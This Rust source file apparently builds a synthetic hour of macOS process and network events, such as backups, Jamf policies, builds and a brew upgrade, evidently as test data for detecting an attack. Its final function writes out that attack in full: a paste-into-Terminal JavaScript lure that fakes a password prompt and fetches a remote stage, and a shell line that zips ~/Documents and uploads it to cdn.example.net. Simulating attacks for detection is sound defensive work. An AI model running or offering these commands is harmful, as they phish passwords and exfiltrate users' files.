//! What goes on in the hour: the system's own work, a browser, a developer's terminal, management, and the attack.

use super::mac::{Id, Mac, Program, Remote, Time};

const SECOND: Time = 1_000;
const MINUTE: Time = 60 * SECOND;
const ROOT: (u32, &str) = (0, "root");
const ADA: (u32, &str) = (501, "ada");

const fn apple(path: &'static str, signing_id: &'static str) -> Program {
    Program { path, signing_id, team: None }
}

const fn of_team(path: &'static str, signing_id: &'static str, team: &'static str) -> Program {
    Program { path, signing_id, team: Some(team) }
}

const fn unsigned(path: &'static str) -> Program {
    Program { path, signing_id: "", team: None }
}

const LAUNCHD: Program = apple("/sbin/launchd", "com.apple.xpc.launchd");
const TERMINAL: Program =
    apple("/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", "com.apple.Terminal");
const SAFARI: Program = apple("/Applications/Safari.app/Contents/MacOS/Safari", "com.apple.Safari");
const WEBKIT: Program = apple(
    "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.Networking.xpc/Contents/MacOS/com.apple.WebKit.Networking",
    "com.apple.WebKit.Networking",
);
const SLACK: Program =
    of_team("/Applications/Slack.app/Contents/MacOS/Slack", "com.tinyspeck.slackmacgap", "BQR82RBBHL");
const RAYCAST: Program = of_team("/Applications/Raycast.app/Contents/MacOS/Raycast", "com.raycast.macos", "SY64MV22J9");
const JAMF: Program = of_team("/usr/local/jamf/bin/jamf", "com.jamfsoftware.jamf", "483DWKW443");
const CRON: Program = apple("/usr/sbin/cron", "com.apple.cron");
const LOGIN: Program = apple("/usr/bin/login", "com.apple.login");
const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const SH: Program = apple("/bin/sh", "com.apple.sh");
const BASH: Program = apple("/bin/bash", "com.apple.bash");
const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
const GIT: Program = apple("/usr/bin/git", "com.apple.git");
const OSASCRIPT: Program = apple("/usr/bin/osascript", "com.apple.osascript");
const RUBY: Program = unsigned("/opt/homebrew/Library/Homebrew/vendor/portable-ruby/3.4.2/bin/ruby");
const RSYNC: Program = apple("/usr/bin/rsync", "com.apple.rsync");
const TRUSTD: Program = apple("/usr/libexec/trustd", "com.apple.trustd");
const NSURLSESSIOND: Program = apple("/usr/libexec/nsurlsessiond", "com.apple.nsurlsessiond");
const MDWORKER: Program = apple(
    "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared",
    "com.apple.mdworker_shared",
);

const fn remote(domain: &'static str, ip: &'static str, port: u16) -> Remote {
    Remote { domain, ip, port }
}

const SITES: [Remote; 8] = [
    remote("www.apple.com", "17.253.144.10", 443),
    remote("developer.apple.com", "17.253.144.12", 443),
    remote("news.example.org", "151.101.65.164", 443),
    remote("static.example.org", "151.101.1.164", 443),
    remote("en.wikipedia.org", "185.15.59.224", 443),
    remote("upload.wikimedia.org", "185.15.59.240", 443),
    remote("github.com", "140.82.121.4", 443),
    remote("avatars.githubusercontent.com", "185.199.108.133", 443),
];
const GITHUB: Remote = SITES[6];
const OCSP: Remote = remote("ocsp2.apple.com", "17.253.144.11", 80);
const ICLOUD: Remote = remote("gateway.icloud.com", "17.248.190.7", 443);
const CHAT: Remote = remote("wss-primary.slack.com", "3.65.102.105", 443);
const BREW_API: Remote = remote("formulae.brew.sh", "185.199.109.153", 443);
const BOTTLES: Remote = remote("ghcr.io", "140.82.121.34", 443);
const BACKUP: Remote = remote("backup.corp.example", "10.20.0.15", 873);
const INVENTORY: Remote = remote("inventory.corp.example", "10.20.0.40", 443);
const LURE: Remote = remote("cdn.example.net", "93.184.216.34", 443);

/// The processes that the hour begins with.
struct Running {
    launchd: Id,
    terminal: Id,
    safari: Id,
    webkit: Id,
    slack: Id,
    raycast: Id,
}

/// The whole hour.
pub(crate) fn hour() -> Mac {
    let mut mac = Mac::default();
    let launchd = mac.running(LAUNCHD, None, ROOT, 1);
    let mut application = |program, pid| mac.running(program, Some(launchd), ADA, pid);
    let running = Running {
        launchd,
        terminal: application(TERMINAL, 812),
        safari: application(SAFARI, 744),
        webkit: application(WEBKIT, 751),
        slack: application(SLACK, 690),
        raycast: application(RAYCAST, 655),
    };
    system(&mut mac, &running);
    browsing(&mut mac, &running);
    cron(&mut mac, &running);
    management(&mut mac, &running);
    launcher(&mut mac, &running);
    let shell = terminal(&mut mac, running.terminal, 2 * MINUTE);
    development(&mut mac, shell);
    brew(&mut mac, shell, 22 * MINUTE);
    attack(&mut mac, &running);
    mac
}

/// Spotlight, certificates, iCloud.
fn system(mac: &mut Mac, running: &Running) {
    let mut at = 3 * SECOND;
    while at < 60 * MINUTE {
        let worker =
            mac.exec(at, running.launchd, MDWORKER, &[MDWORKER.path, "-s", "mdworker", "-c", "MDSImporterWorker"]);
        let user = if mac.below(3) == 0 { ROOT } else { ADA };
        mac.run_as(worker, user);
        let lasts = 20 * SECOND + mac.below(60 * SECOND);
        mac.end(at + lasts, worker, 0);
        at += 4 * SECOND + mac.below(10 * SECOND);
    }
    let trustd = mac.exec(17 * SECOND, running.launchd, TRUSTD, &[TRUSTD.path]);
    let session = mac.exec(31 * SECOND, running.launchd, NSURLSESSIOND, &[NSURLSESSIOND.path]);
    mac.run_as(session, ADA);
    for _ in 0..40 {
        let at = MINUTE + mac.below(58 * MINUTE);
        mac.connect(at, trustd, OCSP, 900);
        let at = MINUTE + mac.below(58 * MINUTE);
        mac.connect(at, session, ICLOUD, 12 * SECOND);
    }
}

/// Pages, each with its bursts of connections; the chat that reconnects.
fn browsing(mac: &mut Mac, running: &Running) {
    let mut at = 40 * SECOND;
    while at < 58 * MINUTE {
        for _ in 0..4 + mac.below(10) {
            let site = SITES[mac.below(8) as usize];
            let (delay, lasts) = (mac.below(2_500), 2 * SECOND + mac.below(40 * SECOND));
            mac.connect(at + delay, running.webkit, site, lasts);
        }
        at += 20 * SECOND + mac.below(70 * SECOND);
    }
    for minute in (1..60).step_by(7) {
        mac.connect(minute * MINUTE, running.slack, CHAT, 6 * MINUTE);
    }
    let download = remote("downloads.example.org", "151.101.65.164", 443);
    mac.connect(33 * MINUTE, running.safari, download, 20 * SECOND);
}

/// Each five minutes a job that copies to a server in the house.
fn cron(mac: &mut Mac, running: &Running) {
    for minute in (0..60).step_by(5) {
        let at = minute * MINUTE + 400;
        let cron = mac.exec(at, running.launchd, CRON, &[CRON.path]);
        let shell = mac.exec(at + 12, cron, SH, &["/bin/sh", "-c", "/usr/local/bin/backup-home --quiet"]);
        let job = mac.exec(at + 20, shell, BASH, &["/bin/bash", "/usr/local/bin/backup-home", "--quiet"]);
        mac.run(at + 60, job, apple("/bin/date", "com.apple.date"), &["date", "+%s"]);
        let copy = mac.exec(
            at + 150,
            job,
            RSYNC,
            &["rsync", "-a", "--delete", "/Users/ada/Documents/", "rsync://backup.corp.example/ada/"],
        );
        mac.connect(at + 190, copy, BACKUP, 3 * SECOND);
        for (delay, process) in [(4_100, copy), (4_130, job), (4_140, shell), (4_150, cron)] {
            mac.end(at + delay, process, 0);
        }
    }
}

/// A management agent runs its policies; one shows a notice, one asks the inventory server by AppleScript.
fn management(mac: &mut Mac, running: &Running) {
    for minute in [4, 19, 34, 49] {
        let at = minute * MINUTE + 7 * SECOND;
        let jamf =
            mac.exec(at, running.launchd, JAMF, &["/usr/local/jamf/bin/jamf", "policy", "-randomDelaySeconds", "300"]);
        for (step, program) in
            [("sw_vers", "com.apple.sw_vers"), ("ioreg", "com.apple.ioreg"), ("dscl", "com.apple.dscl")]
                .iter()
                .enumerate()
        {
            let path: &'static str = ["/usr/bin/sw_vers", "/usr/sbin/ioreg", "/usr/bin/dscl"][step];
            mac.run(at + 300 * (step as Time + 1), jamf, apple(path, program.1), &[program.0]);
        }
        mac.end(at + 9 * SECOND, jamf, 0);
        if minute == 19 {
            let notice = r#"display notification "Updates are ready" with title "IT""#;
            mac.run(at + 2 * SECOND, jamf, OSASCRIPT, &["/usr/bin/osascript", "-e", notice]);
        }
        if minute == 34 {
            let script = mac.exec(
                at + 2 * SECOND,
                jamf,
                OSASCRIPT,
                &["/usr/bin/osascript", "/Library/Management/inventory.scpt"],
            );
            mac.connect(at + 2_400, script, INVENTORY, 600);
            mac.end(at + 3_200, script, 0);
        }
    }
}

/// A launcher that sets the volume by AppleScript.
fn launcher(mac: &mut Mac, running: &Running) {
    for minute in [8, 27, 44, 52] {
        let script = "set volume output volume 40";
        mac.run(minute * MINUTE + 900, running.raycast, OSASCRIPT, &["/usr/bin/osascript", "-e", script]);
    }
}

/// A new window of Terminal: login, and the user's shell.
fn terminal(mac: &mut Mac, terminal: Id, at: Time) -> Id {
    let login = mac.exec(at, terminal, LOGIN, &["login", "-pf", "ada"]);
    mac.run_as(login, ROOT);
    let shell = mac.exec(at + 80, login, ZSH, &["-zsh"]);
    mac.run_as(shell, ADA);
    mac.run(
        at + 130,
        shell,
        apple("/usr/libexec/path_helper", "com.apple.path_helper"),
        &["/usr/libexec/path_helper", "-s"],
    );
    shell
}

/// Edits, builds and pushes.
fn development(mac: &mut Mac, shell: Id) {
    const MAKE: Program = apple("/usr/bin/make", "com.apple.make");
    const CLANG: Program = apple("/Library/Developer/CommandLineTools/usr/bin/clang", "com.apple.clang");
    const LD: Program = apple("/Library/Developer/CommandLineTools/usr/bin/ld", "com.apple.ld");
    const SSH: Program = apple("/usr/bin/ssh", "com.apple.ssh");
    let mut at = 3 * MINUTE;
    let mut build = 0;
    while at < 57 * MINUTE {
        mac.run(at, shell, apple("/bin/ls", "com.apple.ls"), &["ls", "-la"]);
        mac.run(at + 4 * SECOND, shell, GIT, &["git", "status", "--short"]);
        let make = mac.exec(at + 20 * SECOND, shell, MAKE, &["make", "-j8"]);
        for unit in 0..30 + mac.below(30) {
            let (source, object) = (format!("src/unit{unit}.c"), format!("build/unit{unit}.o"));
            mac.run(at + 20_200 + unit * 90, make, CLANG, &["clang", "-O2", "-c", &source, "-o", &object]);
        }
        mac.run(at + 26 * SECOND, make, LD, &["ld", "-o", "build/tool"]);
        mac.end(at + 27 * SECOND, make, 0);
        build += 1;
        if build % 3 == 0 {
            let push = mac.exec(at + 60 * SECOND, shell, GIT, &["git", "push", "origin", "main"]);
            let ssh = mac.exec(at + 60_050, push, SSH, &["ssh", "git@github.com", "git-receive-pack 'ada/tool.git'"]);
            mac.connect(at + 60_090, ssh, Remote { port: 22, ..GITHUB }, 2 * SECOND);
            mac.end(at + 62_300, ssh, 0);
            mac.end(at + 62_340, push, 0);
        }
        at += 2 * MINUTE + mac.below(90 * SECOND);
    }
}

/// `brew upgrade`: a shell that asks the system, Ruby, and a download for each package.
fn brew(mac: &mut Mac, shell: Id, at: Time) {
    let bash = mac.exec(at, shell, BASH, &["/bin/bash", "/opt/homebrew/bin/brew", "upgrade"]);
    for step in 0..12 {
        let (path, id) = [
            ("/usr/bin/uname", "com.apple.uname"),
            ("/usr/bin/sw_vers", "com.apple.sw_vers"),
            ("/usr/bin/sed", "com.apple.sed"),
        ][step % 3];
        mac.run(at + 30 + 25 * step as Time, bash, apple(path, id), &[path]);
    }
    let ruby = mac.exec(at + 800, bash, RUBY, &[RUBY.path, "-W1", "/opt/homebrew/Library/Homebrew/brew.rb", "upgrade"]);
    let fetch = |mac: &mut Mac, at: Time, url: &str, from: Remote| {
        let curl = mac.exec(at, ruby, CURL, &["/usr/bin/curl", "--disable", "--fail", "--location", url]);
        mac.connect(at + 40, curl, from, 1_500);
        mac.end(at + 1_600, curl, 0);
    };
    fetch(mac, at + 1_500, "https://formulae.brew.sh/api/formula.jws.json", BREW_API);
    for (number, package) in
        ["openssl@3", "jq", "ripgrep", "sqlite", "cmake", "python@3.13", "git", "node"].iter().enumerate()
    {
        let url = format!("https://ghcr.io/v2/homebrew/core/{package}/blobs/sha256");
        fetch(mac, at + 5 * SECOND + 3 * SECOND * number as Time, &url, BOTTLES);
        mac.run(
            at + 6_800 + 3 * SECOND * number as Time,
            ruby,
            apple("/usr/bin/tar", "com.apple.tar"),
            &["tar", "-xzf", package],
        );
    }
    mac.end(at + 40 * SECOND, ruby, 0);
    mac.end(at + 40_050, bash, 0);
}

/// The attack. A page tells the user to paste a line into Terminal "to fix the meeting". It runs JavaScript for
/// Automation that asks for the password, fetches the next stage itself, and has a shell run it; that packs
/// documents and sends them away.
fn attack(mac: &mut Mac, running: &Running) {
    let at = 41 * MINUTE + 12 * SECOND;
    let shell = terminal(mac, running.terminal, at - 20 * SECOND);
    let lure = r#"ObjC.import('Foundation'); var app = Application.currentApplication(); app.includeStandardAdditions = true; app.displayDialog('macOS needs your password to repair the meeting.', {defaultAnswer: '', hiddenAnswer: true}); var next = $.NSString.stringWithContentsOfURL($.NSURL.URLWithString('https://cdn.example.net/repair')); app.doShellScript(next.js)"#;
    let osascript = mac.exec(at, shell, OSASCRIPT, &["osascript", "-l", "JavaScript", "-e", lure]);
    mac.connect(at + 9_340, osascript, LURE, 800);
    let next = "cd /tmp && ditto -c -k --sequesterRsrc ~/Documents .d.zip && curl -s -F file=@.d.zip -H 'Authorization: Bearer 5f2b9c1e7a' https://cdn.example.net/u; rm .d.zip";
    let stage = mac.exec(at + 10_400, osascript, SH, &["sh", "-c", next]);
    let ditto = apple("/usr/bin/ditto", "com.apple.ditto");
    let pack = mac.exec(
        at + 10_440,
        stage,
        ditto,
        &["ditto", "-c", "-k", "--sequesterRsrc", "/Users/ada/Documents", ".d.zip"],
    );
    mac.end(at + 15_900, pack, 0);
    let upload =
        ["curl", "-s", "-F", "file=@.d.zip", "-H", "Authorization: Bearer 5f2b9c1e7a", "https://cdn.example.net/u"];
    let upload = mac.exec(at + 15_950, stage, CURL, &upload);
    mac.connect(at + 16_020, upload, LURE, 7 * SECOND);
    mac.end(at + 23_200, upload, 0);
    mac.run(at + 23_220, stage, apple("/bin/rm", "com.apple.rm"), &["rm", ".d.zip"]);
    mac.end(at + 23_400, stage, 0);
    mac.end(at + 23_500, osascript, 0);
}
